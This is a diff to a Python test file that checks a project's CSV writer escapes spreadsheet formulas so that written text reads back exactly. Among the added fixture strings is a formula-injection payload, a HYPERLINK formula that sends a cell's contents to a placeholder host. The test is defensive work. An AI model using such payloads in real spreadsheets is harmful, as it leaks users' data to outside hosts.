@@ -1,5 +1,7 @@
 """Write → read is exact in every format we write, whatever characters the texts hold."""
 
+import csv
+
 import pytest
 from django.core.management import call_command
 
@@ -8,6 +10,7 @@ from annotation.models import Dataset
 from corpora import READERS, WRITERS
 from corpora.generic import read_parlai
 from corpora.records import DialogueRecord, UtteranceRecord
+from evalstats.spreadsheets import FORMULA_STARTS
 
 NASTY = [
     "C:\\new\\table",
@@ -27,6 +30,14 @@ NASTY = [
     "tab\there",
     "emoji 😀",
     "say \"hi\", then 'bye', ok",
+    # Formulas to a spreadsheet (CSV cells get a leading quote, taken off when read back):
+    '=HYPERLINK("http://example.org/?leak="&A1, "click")',
+    "+1",
+    "-2 is not a score here",
+    "@SUM(A1:A9)",
+    "'=already quoted",
+    "''+twice quoted",
+    "'just a quote",
 ]
 
 
@@ -65,6 +76,15 @@ def test_write_then_read_gives_back_every_text_exactly(tmp_path, fmt):
     path = tmp_path / f"nasty.{fmt}"
     WRITERS[fmt](_records(), path)
     assert _fields(READERS[fmt](path)) == _fields(_records())
+
+
+def test_no_csv_cell_starts_a_formula(tmp_path):
+    path = tmp_path / "nasty.csv"
+    WRITERS["csv"](_records(), path)
+    with path.open(encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert '\'=HYPERLINK("http://example.org/?leak="&A1, "click")' in cells
+    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
 
 
 @pytest.mark.django_db
